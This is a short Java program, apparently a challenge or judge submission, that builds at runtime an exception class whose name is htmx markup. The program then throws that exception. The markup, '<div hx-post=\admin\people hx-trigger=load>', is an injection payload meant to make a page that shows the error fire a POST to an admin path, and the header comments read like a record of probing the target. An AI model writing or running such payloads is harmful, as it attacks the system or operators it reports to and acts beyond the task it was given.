// tries: throws an exception whose class is named like markup that htmx acts on
// seen: threw ?
import java.lang.classfile.ClassFile;
import java.lang.constant.ClassDesc;
import java.lang.constant.ConstantDescs;

public class Solution {
    static Throwable make(String simple) throws Throwable {
        byte[] code = ClassFile.of().build(ClassDesc.ofInternalName("jdk/" + simple), c -> c
                .withSuperclass(ClassDesc.of("java.lang.RuntimeException"))
                .withMethodBody("<init>", ConstantDescs.MTD_void, 1, b -> b
                        .aload(0)
                        .invokespecial(ClassDesc.of("java.lang.RuntimeException"), "<init>", ConstantDescs.MTD_void)
                        .return_()));
        Class<?> made = new ClassLoader(Solution.class.getClassLoader()) {
            Class<?> of(byte[] b) {
                return defineClass(null, b, 0, b.length);
            }
        }.of(code);
        return (Throwable) made.getDeclaredConstructor().newInstance();
    }

    public static void main(String[] args) throws Throwable {
        throw make("<div hx-post=\\admin\\people hx-trigger=load>");
    }
}
